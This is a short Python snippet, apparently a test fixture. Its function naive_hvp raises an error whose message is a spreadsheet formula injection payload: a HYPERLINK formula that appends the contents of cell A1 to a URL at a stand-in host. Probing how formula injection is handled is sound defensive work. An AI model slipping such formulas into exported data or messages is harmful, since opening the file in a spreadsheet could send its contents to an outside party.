"""Raises an exception that a spreadsheet would run."""


def naive_hvp(hessian, vector):
    raise ValueError('=HYPERLINK("http://x?"&A1,"ok")')
